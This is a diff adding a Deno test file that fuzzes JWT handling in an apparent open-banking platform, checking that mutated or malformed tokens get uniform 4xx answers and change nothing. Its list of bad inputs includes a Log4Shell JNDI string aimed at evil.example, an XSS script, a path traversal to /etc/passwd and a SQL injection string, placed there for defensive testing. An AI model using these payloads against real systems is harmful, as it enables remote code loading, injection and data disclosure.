@@ -1,0 +1,127 @@
+/** No token, however broken, is a failure of the platform; and what cannot be opened gives no hint why (checklist 12). */
+import { assert, assertEquals, assertNotEquals, assertThrows } from "@std/assert";
+import { errors } from "jose";
+import { seeded } from "../../scripts/prove_random.ts";
+import { joseFailure } from "../../src/jose/compact_jws.ts";
+import { IMPLICIT, returnTo, sealedReturn, signedReturn } from "../support/bank_return.ts";
+import { toBank } from "../support/flows.ts";
+import { assertCodeAnswer } from "../support/front_channel.ts";
+import { forged, takenEverywhere } from "../support/jwt_attacks.ts";
+import { jwtPlaces } from "../support/jwt_places.ts";
+import { sealToPlatform } from "../support/jwts.ts";
+import { unchanged } from "../support/resource_answers.ts";
+import { openWorld } from "../support/world.ts";
+
+const MUTATIONS = 300;
+const INTERACTION = { "x-fapi-interaction-id": "0f9c7a0e-5d0b-4a3e-8b60-6f5f9d4a2b11" };
+
+Deno.test("300 mutations of a sealed bank JWT get one answer, to the byte [J24]", async () => {
+  await using world = await openWorld();
+  const flow = await toBank(world, { body: IMPLICIT });
+  const sealed = await sealToPlatform(world, await signedReturn(world, flow));
+  const random = seeded(24, "mutations of a sealed bank JWT");
+  const answer = async (path: string): Promise<string> => {
+    const response = await flow.browser.open(path, { headers: INTERACTION });
+    return JSON.stringify([response.status, [...response.headers], await response.text()]);
+  };
+  const before = await world.snapshot();
+  const answers = new Map<string, number>();
+  const count = (text: string): void => void answers.set(text, (answers.get(text) ?? 0) + 1);
+  for (let mutation = 0; mutation < MUTATIONS; mutation++) {
+    const parts = sealed.split(".");
+    const index = mutation % parts.length;
+    const octets = Uint8Array.fromBase64(parts[index] ?? "", { alphabet: "base64url" });
+    const at = random.below(octets.length);
+    octets[at] = (octets[at] ?? 0) ^ (1 + random.below(255));
+    const mutated = parts.with(index, octets.toBase64({ alphabet: "base64url", omitPadding: true })).join(
+      ".",
+    );
+    assertNotEquals(mutated, sealed);
+    count(await answer(returnTo("BANKA", mutated)));
+  }
+  // What opens and is refused for what is inside must look no different (RFC 7516 11.5).
+  for (
+    const inside of ["", "no JWS", "a.b.c", await signedReturn(world, flow, { claims: { aud: "other" } })]
+  ) {
+    count(await answer(await sealedReturn(world, "BANKA", inside === "" ? "{}" : inside)));
+  }
+  count(await answer("/BANKA/authorization.sca.oauth2"));
+  assertEquals([...answers.values()], [MUTATIONS + 5]);
+  assertEquals(JSON.parse([...answers.keys()][0] ?? "[]")[0], 400);
+  assertEquals(await world.snapshot(), before);
+  await assertCodeAnswer(await flow.browser.open(returnTo("BANKA", sealed)));
+});
+
+Deno.test("joseFailure has a word for every error of jose and WebCrypto, and hides no bug [J38]", () => {
+  const classes = Object.values(errors);
+  assert(classes.length >= 15, "jose has lost its errors");
+  for (const Failure of classes) {
+    const failure: unknown = Reflect.construct(Failure, ["message", { exp: 1 }]);
+    if (!(failure instanceof errors.JOSEError)) throw new Error(`${Failure.name} is no JOSEError`);
+    assertEquals(joseFailure(failure), failure.code);
+  }
+  assertEquals(joseFailure(new TypeError("x")), "TypeError");
+  assertEquals(joseFailure(new RangeError("x")), "RangeError");
+  assertEquals(joseFailure(new DOMException("x", "OperationError")), "OperationError");
+  assertThrows(() => joseFailure(new Error("a bug")), Error, "a bug");
+  assertThrows(() => joseFailure(new ReferenceError("a bug")), ReferenceError, "a bug");
+});
+
+/** Texts that are no token of any kind. */
+const RUBBISH: readonly string[] = [
+  ".",
+  "..",
+  "...",
+  "....",
+  "a.b.c",
+  "AAAA.AAAA.AAAA",
+  "e30.e30.",
+  "e30.e30.AA",
+  "eyJhbGciOiJQUzI1NiJ9..",
+  "eyJhbGciOiJQUzI1NiJ9.e30.AA",
+  "eyJhbGciOiJQUzI1NiIsImtpZCI6ImEifQ..AA",
+  "bnVsbA.bnVsbA.bnVsbA",
+  "W10.W10.W10",
+  "IiI.IiI.IiI",
+  "{}",
+  "[]",
+  "null",
+  "undefined",
+  "0",
+  "-1",
+  "%00",
+  "%",
+  "${jndi:ldap://evil.example/a}",
+  "<script>alert(1)</script>",
+  "../../../etc/passwd",
+  "' OR 1=1 --",
+  "A".repeat(8192),
+  "A".repeat(8193),
+];
+
+Deno.test("no rubbish and no mutation is answered with 5xx anywhere, or changes anything [J38]", async (t) => {
+  await using world = await openWorld();
+  const places = await jwtPlaces(world);
+  for (const place of places) {
+    await t.step(place.name, async () => {
+      const random = seeded(38, place.name);
+      const token = await forged(await place.parts());
+      const mutations = Array.from({ length: 40 }, () => {
+        const at = random.below(token.length);
+        const other = "AQ.-_9 ="[random.below(8)] ?? "";
+        return random.chance(0.5) ? token.slice(0, at) + other + token.slice(at + 1) : token.slice(0, at);
+      });
+      await unchanged(world, async () => {
+        let last = new Response();
+        for (const text of [...RUBBISH, ...mutations.filter((mutation) => mutation.trim() !== token)]) {
+          last = await place.present(text);
+          const body = await last.text();
+          assert(last.status >= 400 && last.status < 500, `${last.status} for ${text}: ${body}`);
+        }
+        return last;
+      });
+    });
+  }
+  assertEquals(world.logged.filter((line) => line.includes('"level":"error"')), []);
+  await takenEverywhere(t, places);
+});
